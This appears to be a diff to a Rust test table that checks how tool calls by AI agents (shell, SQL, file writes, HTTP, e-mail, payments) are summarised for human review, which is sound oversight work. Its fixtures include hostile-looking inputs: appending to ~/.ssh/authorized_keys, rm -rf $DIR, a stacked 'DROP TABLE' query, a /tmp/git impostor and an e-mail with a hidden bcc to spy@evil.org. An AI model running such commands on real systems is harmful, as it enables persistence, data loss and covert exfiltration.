@@ -12,7 +12,7 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "Bash",
             json!({"command": "git add . && git commit -m 'x' && git push"}),
-            "Run 3 commands: git add, git commit, git push",
+            "Run 3 commands: git push; git add .; git commit -m x",
             "shell",
         ),
         (
@@ -22,17 +22,12 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
             "shell",
         ),
         ("run_shell_command", json!({"command": "ls", "cwd": "/srv"}), "Run ls", "shell"),
-        (
-            "run_shell_command",
-            json!({"command": "ls", "env": {"A": "b"}}),
-            "Run ls, with 1 more argument",
-            "shell",
-        ),
+        ("run_shell_command", json!({"command": "ls", "env": {"A": "b"}}), "Unclear (env): run ls", "shell"),
         ("shell", json!({"command": ["rm", "-r", "a b"]}), "Run rm -r 'a b'", "shell"),
         (
             "shell",
             json!({"command": ["bash", "-lc", "cd x && make test"]}),
-            "Run 2 commands: cd, make test",
+            "Run 2 commands: make test; cd x",
             "shell",
         ),
         (
@@ -44,32 +39,32 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "Bash",
             json!({"command": "cat a | sudo tee /etc/hosts"}),
-            "Run 2 commands: cat, sudo tee /etc/hosts",
+            "Run 2 commands: sudo tee /etc/hosts; cat a",
             "shell",
         ),
         (
             "Bash",
             json!({"command": "echo x >> ~/.ssh/authorized_keys"}),
-            "Run a command line that cannot be taken apart: echo x >> ~/.ssh/authorized_keys",
+            "Unclear, cannot be taken apart: run echo x >> ~/.ssh/authorized_keys",
             "shell",
         ),
         (
             "Bash",
             json!({"command": "rm -rf $DIR"}),
-            "Run a command line that cannot be taken apart: rm -rf $DIR",
+            "Unclear, cannot be taken apart: run rm -rf $DIR",
             "shell",
         ),
         (
             "Bash",
             json!({"command": "make && cp a b > log; ls"}),
-            "Run 3 commands: make, cp > log, ls",
+            "Run 3 commands: cp a b > log; make; ls",
             "shell",
         ),
-        ("Bash", json!({"command": "/tmp/git push && ls"}), "Run 2 commands: /tmp/git push, ls", "shell"),
+        ("Bash", json!({"command": "/tmp/git push && ls"}), "Run 2 commands: /tmp/git push; ls", "shell"),
         (
             "powershell",
             json!({"command": "Remove-Item x"}),
-            "Run a command line that cannot be taken apart: Remove-Item x",
+            "Unclear, cannot be taken apart: run Remove-Item x",
             "shell",
         ),
         ("Bash", json!({"command": "ls", "cmd": "rm x"}), "Call Bash with 2 arguments", "json"),
@@ -81,13 +76,13 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "execute_sql",
             json!({"query": "DELETE FROM users"}),
-            "Run SQL: DELETE on users, without a WHERE",
+            "Run SQL without a WHERE: DELETE on users",
             "sql",
         ),
         (
             "execute_sql",
             json!({"query": "DELETE FROM users WHERE id = 7"}),
-            "Run SQL: DELETE on users, with a WHERE",
+            "Run SQL: DELETE on users",
             "sql",
         ),
         (
@@ -105,7 +100,7 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "run_sql",
             json!({"statement": "UPDATE t SET a = 1", "database": "prod"}),
-            "Run SQL: UPDATE on t, without a WHERE, with 1 more argument",
+            "Run SQL without a WHERE: UPDATE on t",
             "sql",
         ),
         (
@@ -117,7 +112,7 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "execute_sql",
             json!({"query": "SELECT 'it\\'s'; DROP TABLE t"}),
-            "Call execute_sql with query \"SELECT 'it\\\\'s'; DROP TABLE t\"",
+            "Unclear, cannot be taken apart: run SQL \"SELECT 'it\\\\'s'; DROP TABLE t\"",
             "json",
         ),
         (
@@ -145,7 +140,7 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "delete_files",
             json!({"files": ["a"], "force": true}),
-            "Delete 1 file: a, with 1 more argument",
+            "Unclear (force): call delete_files: a",
             "json",
         ),
         ("delete_files", json!({"files": []}), "Call delete_files with 1 argument", "json"),
@@ -194,7 +189,7 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "write_file",
             json!({"path": "a", "content": "", "mode": "append"}),
-            "Write 0 lines to a, with 1 more argument",
+            "Unclear (mode): write 0 lines to a",
             "diff",
         ),
         ("create_file", json!({"path": "a", "file_text": "x"}), "Write 1 line to a", "diff"),
@@ -202,27 +197,27 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "apply_patch",
             json!({"input": "*** Begin Patch\n*** Update File: src/a.rs\n-x\n+y\n*** End Patch"}),
-            "Patch 1 file: src/a.rs",
+            "Patch: change src/a.rs",
             "diff",
         ),
         (
             "apply_patch",
             json!({"patch": "--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-1\n+2\n--- /dev/null\n+++ b/y.c\n@@ -0,0 +1 @@\n+3\n"}),
-            "Patch 2 files: x.c, y.c",
+            "Patch: create y.c; change x.c",
             "diff",
         ),
-        ("apply_patch", json!({"input": "hello"}), "Call apply_patch with input \"hello\"", "json"),
+        ("apply_patch", json!({"input": "hello"}), "Unclear, cannot be taken apart: apply \"hello\"", "json"),
         // --- other servers ---
         (
             "http_request",
             json!({"method": "POST", "url": "https://api.example.com/v1/users", "body": {"a": 1}}),
-            "Send POST to https://api.example.com/v1/users, sending a body",
+            "Send POST with a body to https://api.example.com/v1/users",
             "http",
         ),
         (
             "WebFetch",
             json!({"url": "https://example.com/", "prompt": "read"}),
-            "Send GET to https://example.com/, with 1 more argument",
+            "Send GET to https://example.com/",
             "http",
         ),
         (
@@ -240,7 +235,7 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "http_request",
             json!({"url": "https://a.com", "body": "x"}),
-            "Call http_request with 2 arguments",
+            "Call http_request: https://a.com",
             "json",
         ),
         (
@@ -260,13 +255,13 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "gmail.sendEmail",
             json!({"to": ["a@x.org", "b@x.org"], "bcc": ["spy@evil.org"], "subject": "s", "body": "b"}),
-            "Send an e-mail to a@x.org, b@x.org, spy@evil.org (1 hidden from the others)",
+            "Send an e-mail to spy@evil.org, a@x.org, b@x.org (1 hidden from the others)",
             "email",
         ),
         (
             "send_email",
             json!({"to": ["a@x.org"], "subject": "s", "attachments": ["db.sql", "x"]}),
-            "Send an e-mail to a@x.org with 2 attachments",
+            "Send an e-mail with 2 attachments to a@x.org",
             "email",
         ),
         (
@@ -329,8 +324,8 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "bank/transfer",
             json!({"amount": 5, "currency": "EUR", "iban": "DE89", "execute_at": "now", "from": "main"}),
-            "Transfer 5 EUR to DE89, with 2 more arguments",
-            "money",
+            "Unclear (execute_at, from): call bank/transfer: 5 EUR, DE89",
+            "json",
         ),
         (
             "bank/transfer",
@@ -348,14 +343,14 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "sepa/credit",
             json!({"amount": "99.90", "currency": "EUR", "iban": "DE89", "memo": "rent"}),
-            "Call sepa/credit with 99.90 EUR to DE89",
-            "money",
+            "Call sepa/credit: 99.90 EUR, DE89",
+            "json",
         ),
         (
             "ledger.book",
             json!({"amount": 12, "currency": "usd", "account": "4711", "urgent": true}),
-            "Call ledger.book with 12 usd to 4711, with 1 more argument",
-            "money",
+            "Unclear (urgent): call ledger.book: 12 usd, 4711",
+            "json",
         ),
         ("set_budget", json!({"amount": 12, "to": "ann"}), "Call set_budget with 2 arguments", "json"),
         (
@@ -367,14 +362,14 @@ pub(super) fn cases() -> Vec<(&'static str, Value, &'static str, &'static str)> 
         (
             "send_email",
             json!({"to": "ann@x.org", "subject": "s", "amount": 1, "currency": "EUR"}),
-            "Send an e-mail to ann@x.org, with 2 more arguments",
-            "email",
+            "Unclear (amount, currency): call send_email: ann@x.org",
+            "json",
         ),
         (
             "pay",
             json!({"amount": 1, "currency": "EUR", "to": "x", "urgent": true}),
-            "Pay 1 EUR to x, with 1 more argument",
-            "money",
+            "Unclear (urgent): call pay: 1 EUR, x",
+            "json",
         ),
         (
             "pay",
@@ -398,7 +393,7 @@ fn every_call_of_the_table_is_described_as_it_says() {
     for (tool, arguments, effect, kind) in cases {
         let arguments = object(arguments);
         let said = effect_of(tool, &arguments);
-        let shown = recognise(tool, &arguments).map_or("json", |call| call.known.preview(None).kind());
+        let shown = recognise(tool, &arguments).map_or("json", |call| call.preview(None).0.kind());
         if (said.as_str(), shown) != (effect, kind) {
             wrong.push(format!("{tool}: {shown} `{said}`, not {kind} `{effect}`"));
         }
